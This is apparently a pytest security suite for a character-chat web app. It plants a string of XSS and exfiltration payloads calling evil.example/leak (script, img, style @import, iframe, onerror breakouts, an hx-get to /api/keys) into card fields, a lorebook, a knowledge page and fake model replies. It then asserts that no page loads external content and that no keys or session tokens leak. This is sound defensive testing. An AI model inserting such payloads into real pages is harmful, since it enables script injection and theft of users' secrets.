"""A canary and a poisoned card, page, lorebook and model: nothing on a page loads from elsewhere, and no
secret of the studio is in any answer or in the log.

Text that comes from outside is put everywhere a page shows text; then every page is parsed the way a browser
does, and whatever would load, run or send without a click is looked for.
"""

from __future__ import annotations

import hashlib
import json
import logging
import re
import sqlite3
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urljoin, urlsplit

import httpx
import pytest
import pytest_asyncio
from selectolax.lexbor import LexborHTMLParser

from madang.characters.types import Line, Lorebook, LoreEntry, Profile
from madang.web.headers import CONTENT_SECURITY_POLICY
from tests.app.stage import HOST, Caller, ListedModels, Stage, events, stage
from tests.fakes.models import FakeChat
from tests.web.hostile import HOSTILE

pytestmark = pytest.mark.asyncio(loop_scope="module")
CANARY = "canary-7f3a-chat-key"
LEAK = "https://evil.example/leak?q=secret"
POISON = "\n\n".join(
    (
        f"![a]({LEAK})",
        f"[click]({LEAK})",
        f'<img src="{LEAK}">',
        f"<script src='{LEAK}'></script>",
        f"<style>@import '{LEAK}'; body{{background:url({LEAK})}}</style>",
        f"<link rel=stylesheet href='{LEAK}'>",
        f"<div style='background:url({LEAK})' onclick=alert(1)>x</div>",
        f"<iframe src='{LEAK}'></iframe><meta http-equiv=refresh content='0;url={LEAK}'>",
        "</textarea></script></template>",
        f'" onerror="alert(1)" src="{LEAK}" x="',
        "<p hx-get=/api/keys hx-trigger=load>x</p>",
    )
)
LOADS = {"src", "srcset", "poster", "data", "background", "ping", "manifest", "formaction", "action", "code"}
"""Attributes whose address a browser asks for (or sends a form to) by itself or on a harmless click."""
ELSEWHERE = re.compile(r"(?i)url\s*\(\s*['\"]?\s*(?:https?:)?//|@import")


class Poisoned(ListedModels):
    """A model whose every reply is an attack."""

    def __init__(self) -> None:
        super().__init__(FakeChat(POISON))


@dataclass
class Ground:
    stage: Stage
    owner: Caller
    visitor: Caller
    slug: str
    pages: list[tuple[Caller, str]]
    database: Path


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def ground(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Ground]:
    data = tmp_path_factory.mktemp("poison") / "data"
    async with stage(data, models=Poisoned(), chat_key=CANARY, embed_key=CANARY) as made:
        studio = made.studio
        owner, visitor = await made.owner(), await made.visitor()
        me = await studio.accounts.owner()
        lore = Lorebook(
            name=POISON[:100], entries=[LoreEntry(keys=["hello"], content=POISON, name=POISON[:80])]
        )
        profile = Profile(
            name="Moru <img src=//evil.example/n>",
            tagline=POISON[:300],
            greeting=POISON,
            alternate_greetings=[POISON],
            persona=POISON,
            personality=POISON,
            scenario=POISON,
            examples=[[Line(speaker="visitor", text=POISON), Line(speaker="character", text=POISON)]],
            system_prompt=POISON,
            post_history_instructions=POISON,
            nickname="<img src=//evil.example/nick>",
            tags=["<img src=//evil.example/t>", *HOSTILE[:20]],
            creator="<img src=//evil.example/c>",
            creator_notes=POISON,
            character_version="<style>@import '//evil.example'</style>",
            lorebook=lore,
            starters=["<img src=//evil.example/s>", f"![x]({LEAK})"],
        )
        character = await studio.characters.create(me, profile)
        card, _ = await studio.characters.export_card(me, character.slug, "json")
        brought = (await owner.ask("POST", "/api/cards", files={"file": ("x.json", card)})).json()
        slug = brought["character"]["slug"]
        body = f"<h1>{POISON}</h1><p>The price is 900. {POISON}</p>"
        page = f"<html><title>{POISON}</title><body>{body}</body></html>"
        source = await studio.knowledge.add_file(brought["character"]["id"], "page.html", page.encode())
        await studio.knowledge.wait(source.id, "words", seconds=20)
        passages = await studio.knowledge.passages(brought["character"]["id"], source.id)
        assert passages
        await studio.characters.publish(me, slug)
        begun = (await visitor.ask("POST", f"/api/characters/{slug}/conversations", json={})).json()["id"]
        for message in ("hello", POISON, "What is the price?"):
            said = await visitor.ask(
                "POST", f"/api/conversations/{begun}/turns?html=1", json={"message": message}
            )
            assert events(said)[-1][0] == "done", said.text[-300:]
        turn = (await visitor.ask("GET", f"/api/conversations/{begun}")).json()["turns"][-1]["id"]
        await owner.ask("POST", "/account/keys", data={"name": POISON[:100], "chat": "1"})
        pages = [
            (visitor, "/"),
            (visitor, f"/?q={'%3Cimg%20src=//evil.example%3E'}"),
            (visitor, f"/c/{slug}"),
            (visitor, f"/c/{slug}?conversation={begun}"),
            (visitor, f"/c/{slug}/thread?conversation={begun}"),
            (visitor, f"/c/{slug}/thread?conversation={begun}&turn={turn}"),
            (visitor, f"/c/{slug}/past?conversation={begun}"),
            *((visitor, f"/c/{slug}/passages/{one.id}?from=0&to=9") for one in passages[:3]),
            (visitor, "/sign-in?next=//evil.example"),
            (visitor, "/c/%3Cscript%20src=%2F%2Fevil.example%3E"),
            (owner, f"/edit/{slug}"),
            (owner, f"/edit/{slug}/sources"),
            (owner, "/mine"),
            (owner, "/make"),
            (owner, "/account"),
            (owner, "/owner/none"),
        ]
        yield Ground(made, owner, visitor, slug, pages, data / "studio.db")


def outside(markup: str) -> list[str]:
    """What in a page would load, run or send elsewhere, as a browser parses it."""
    found = []
    for node in LexborHTMLParser(markup).css("*"):
        attributes = {name.lower(): value or "" for name, value in node.attributes.items()}
        for name, value in attributes.items():
            loads = (
                name in LOADS
                or name.endswith(":href")
                or (name == "href" and node.tag in ("link", "use", "base", "image"))
            )
            for address in value.split(",") if name == "srcset" else [value]:
                if (
                    loads
                    and urlsplit(urljoin(HOST, address.strip().replace("\\", "/"))).netloc
                    != urlsplit(HOST).netloc
                ):
                    found.append(f"<{node.tag} {name}={value[:80]!r}>")
            if name.startswith("on") or name in ("style", "srcdoc", "http-equiv"):
                found.append(f"<{node.tag} {name}={value[:80]!r}>")
            if name.startswith(("hx-", "data-hx-")) and "api/keys" in value:
                found.append(f"<{node.tag} {name}={value[:80]!r}>")
            if name == "href" and re.match(r"(?i)[\s\x00-\x20]*(javascript|vbscript|data|file):", value):
                found.append(f"<{node.tag} {name}={value[:80]!r}>")
        if node.tag in ("iframe", "object", "embed", "base", "frame", "style", "applet", "portal"):
            found.append(f"<{node.tag}>")
        if node.tag == "script" and not attributes.get("src", "").startswith("/static/"):
            found.append(f"<script {attributes}>")
        if (
            node.tag == "a"
            and urlsplit(urljoin(HOST, attributes.get("href", ""))).netloc != urlsplit(HOST).netloc
        ):
            rel = attributes.get("rel", "").split()
            if not {"noopener", "noreferrer"} <= set(rel):
                found.append(f"<a {attributes}>")
    return found


async def test_the_search_finds_what_it_looks_for() -> None:
    for attack in (
        "<img src=//evil.example/x>",
        f"<a href='{LEAK}'>x</a>",
        "<style>x</style>",
        "<p onclick=x>",
    ):
        assert outside(attack), attack
    assert not outside(f'<img src="/mask/x.svg"><a href="{LEAK}" rel="noopener noreferrer nofollow">x</a>')


async def test_no_page_loads_anything_from_elsewhere(ground: Ground) -> None:
    poisoned = 0
    for caller, address in ground.pages:
        part = {"hx-request": "true"} if address.endswith("/sources") else {}
        page = await caller.ask("GET", address, headers={"accept": "text/html", **part})
        assert page.status_code in (200, 404), f"{address}: {page.status_code} {page.text[:300]}"
        assert outside(page.text) == [], address
        poisoned = poisoned + ("evil.example" in page.text)
    assert poisoned >= 10, "the attack is not on the pages: nothing was tested"


async def test_streamed_html_loads_nothing_from_elsewhere(ground: Ground) -> None:
    streams = [response for response in ground.visitor.seen if "event: html" in response.text]
    assert any("evil.example" in response.text for response in streams)
    for response in streams:
        for name, data in events(response):
            if name == "html":
                assert outside(json.loads(data)["html"]) == []


async def test_the_policy_is_strict_on_every_answer(ground: Ground) -> None:
    seen = ground.owner.seen + ground.visitor.seen
    assert len(seen) > 20
    for response in seen:
        policy = response.headers["content-security-policy"]
        where = f"{response.request.method} {response.request.url}"
        assert policy in (CONTENT_SECURITY_POLICY, "default-src 'none'; sandbox"), where
        assert "unsafe" not in policy and "http" not in policy and "*" not in policy, where
        assert response.headers["x-content-type-options"] == "nosniff", where
        assert response.headers["referrer-policy"] == "same-origin", where
    for held in ("default-src 'none'", "script-src 'self'", "base-uri 'none'", "form-action 'self'"):
        assert held in CONTENT_SECURITY_POLICY


async def test_style_sheets_and_scripts_name_no_other_place(ground: Ground) -> None:
    page = (await ground.visitor.ask("GET", "/", headers={"accept": "text/html"})).text
    names = set(re.findall(r'"(/static/[^"#]+)', page))
    assert names
    for name in names:
        body = (await ground.visitor.ask("GET", name)).text
        assert not ELSEWHERE.search(body), name


async def test_no_secret_is_in_any_answer_or_in_the_log(
    ground: Ground, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO)
    caplog.set_level(logging.DEBUG, "madang")
    studio, data = ground.stage.studio, ground.stage.studio.settings.data
    me = await studio.accounts.owner()
    key, _ = await studio.accounts.create_key(me, "canary", ["chat", "manage"])
    session = ground.owner.http.cookies["madang_session"]
    program = ground.stage.caller("program", key)
    for address in (
        *("/api/me", "/api/keys", "/api/studio", "/readyz", "/healthz", "/openapi.json", "/v1/models"),
        *("/api/characters", f"/api/characters/{ground.slug}"),
    ):
        for caller in (ground.owner, program):
            await caller.ask("GET", address)
    await ground.owner.ask("POST", "/v1/chat/completions", json={"model": "nobody"})
    for caller, address in ground.pages:
        await caller.ask("GET", address, headers={"accept": "text/html"})
    secrets = {
        "the chat server's key": CANARY,
        "an API key": key,
        "an API key's hash": hashlib.sha256(key.encode()).hexdigest(),
        "a session": session,
        "a session's hash": hashlib.sha256(session.encode()).hexdigest(),
    }
    for file in (data / "secrets").iterdir():
        held = file.read_bytes()
        secrets |= {f"{file.name} in hex": held.hex(), f"{file.name} as text": held.decode("latin-1")}
    with sqlite3.connect(f"file:{ground.database}?mode=ro", uri=True) as connection:
        for table in ("sessions", "api_keys"):
            for (stored,) in connection.execute(f"SELECT token_hash FROM {table}"):
                secrets[f"a hash of {table} {stored[:6]}"] = stored
    for response in ground.owner.seen + ground.visitor.seen + program.seen:
        for name, secret in secrets.items():
            assert secret not in _said(response), f"{name} in the answer to {response.request.url}"
    for name, secret in secrets.items():
        assert secret not in caplog.text, f"{name} is in the log"


def _said(response: httpx.Response) -> str:
    """Headers but for the session's own cookie, and the body."""
    headers = [f"{name}: {value}" for name, value in response.headers.multi_items() if name != "set-cookie"]
    return "\n".join((*headers, response.text, response.content.decode("latin-1")))
